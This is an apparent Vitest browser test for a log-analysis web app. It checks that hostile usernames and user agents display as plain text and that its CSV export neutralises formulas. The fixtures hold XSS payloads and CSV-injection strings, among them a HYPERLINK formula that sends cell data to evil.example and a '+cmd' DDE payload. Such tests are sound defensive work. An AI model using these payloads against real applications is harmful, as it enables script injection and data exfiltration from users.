import { writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { browserAvailable, screenshot, useBrowser } from '../helpers/browser'
import { cliIngest } from '../helpers/cli-ingest'

// Usernames and user agents are chosen by the attacker. Whatever they contain must show as
// text in the page and never run, and must not become a formula in a spreadsheet export.

const MARK = 'xss-probe'
const userAgent = `<script>window.__pwned = 'ua'</script><img src=x onerror="window.__pwned='img'"> ${MARK}`
const usernames = [
  ...Array.from({ length: 10 }, (_, i) => `<img src=x onerror="window.__pwned='upn${i}'">${i}@contoso.com`),
  `=HYPERLINK("http://evil.example/?"&A1,"click")@contoso.com`,
  `+cmd|' /C calc'!A0@contoso.com`,
  `@SUM(1+1)@contoso.com`,
  `-2+3@contoso.com`,
]

describe.skipIf(!browserAvailable)('hostile log content', () => {
  const browser = useBrowser('lead')
  let datasetId = 0

  beforeAll(async () => {
    const file = path.join(os.tmpdir(), `hostile-${process.pid}.ndjson`)
    const start = Date.parse('2026-03-05T10:00:00Z')
    writeFileSync(
      file,
      usernames
        .map((upn, i) =>
          JSON.stringify({ '@timestamp': start + i * 1000, id: `hostile-${i}`, resultType: '50034', ipAddress: '198.51.100.66', userPrincipalName: upn, clientAppUsed: 'Browser', userAgent, appDisplayName: '<b>bold app</b>' }),
        )
        .join('\n'),
    )
    const [report] = await cliIngest(inject('appDatabaseUrl'), 'hostile', [file])
    expect(report.inserted).toBe(usernames.length)
    const page = browser.page()
    const datasets = (await page.evaluate(async () => (await fetch('/api/datasets')).json())) as { datasets: { id: number; name: string }[] }
    datasetId = datasets.datasets.find((d) => d.name === 'hostile')!.id
  })

  afterAll(async () => {
    // Leaves the demo-only database the other browser tests expect, and exercises DELETE.
    const status = await browser.page().evaluate(async (id) => (await fetch(`/api/datasets/${id}`, { method: 'DELETE' })).status, datasetId)
    expect(status).toBe(200)
  })

  it('renders attacker-chosen user agents, usernames and app names as text on every page', async () => {
    const page = browser.page()
    await page.goto(browser.url(`/findings?dataset=${datasetId}&hide=`))
    await page.locator('[data-testid="findings-table"] tbody tr').first().waitFor()
    const uaCell = page.locator('[data-testid="findings-table"] td[data-column="userAgent"]').first()
    expect(await uaCell.locator('[title]').getAttribute('title')).toBe(userAgent)
    await uaCell.locator('button').click() // expand: the whole value, still as text
    expect(await uaCell.textContent()).toContain(userAgent)
    expect(await page.locator('[data-testid="findings-table"] img').count()).toBe(0)
    expect(await page.locator('[data-testid="findings-table"] b').count()).toBe(0)

    await page.locator('[data-testid="findings-table"] td[data-column="uniqueUsernames"] a').first().click()
    await page.waitForURL(/\/findings\/\d+$/)
    await page.locator('[data-testid="usernames-table"] tbody tr').first().waitFor()
    const shown = await page.locator('[data-testid="usernames-table"] td[data-column="userPrincipalName"]').allTextContents()
    expect(shown).toContain(usernames[0].toLowerCase())
    expect(await page.locator('main img').count()).toBe(0)
    await page.locator('[data-testid="events-table"] .vt-row button').first().click()
    await page.locator('[data-testid="raw-record"]').first().waitFor()

    await page.goto(browser.url(`/ips/198.51.100.66?dataset=${datasetId}`))
    await page.locator('[data-testid="ip-buckets-table"] tbody tr').first().waitFor()
    expect(await page.locator('main img, main script:not([src])').evaluateAll((nodes) => nodes.filter((n) => n.textContent?.includes('__pwned') || n.tagName === 'IMG').length)).toBe(0)
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined()
    await screenshot(page, 'hostile-input')
  })

  it('neutralises spreadsheet formulas in the CSV export', async () => {
    const csv = await browser.page().evaluate(async (id) => {
      const findings = (await (await fetch(`/api/findings?dataset=${id}`)).json()) as { rows: { id: number }[] }
      return (await fetch(`/api/findings/${findings.rows[0].id}/usernames?format=csv`)).text()
    }, datasetId)
    const cells = csv.split('\r\n').slice(1).map((line) => line.split(',')[0].replace(/^"|"$/g, ''))
    for (const dangerous of ['=hyperlink', '+cmd', '@sum', '-2+3']) {
      const cell = cells.find((c) => c.toLowerCase().includes(dangerous))
      expect(cell, dangerous).toBeDefined()
      expect(cell!.startsWith("'"), `${dangerous} must start with an apostrophe: ${cell}`).toBe(true)
    }
  })

  it('raised no errors in the browser console', () => {
    expect(browser.errors).toEqual([])
  })
})
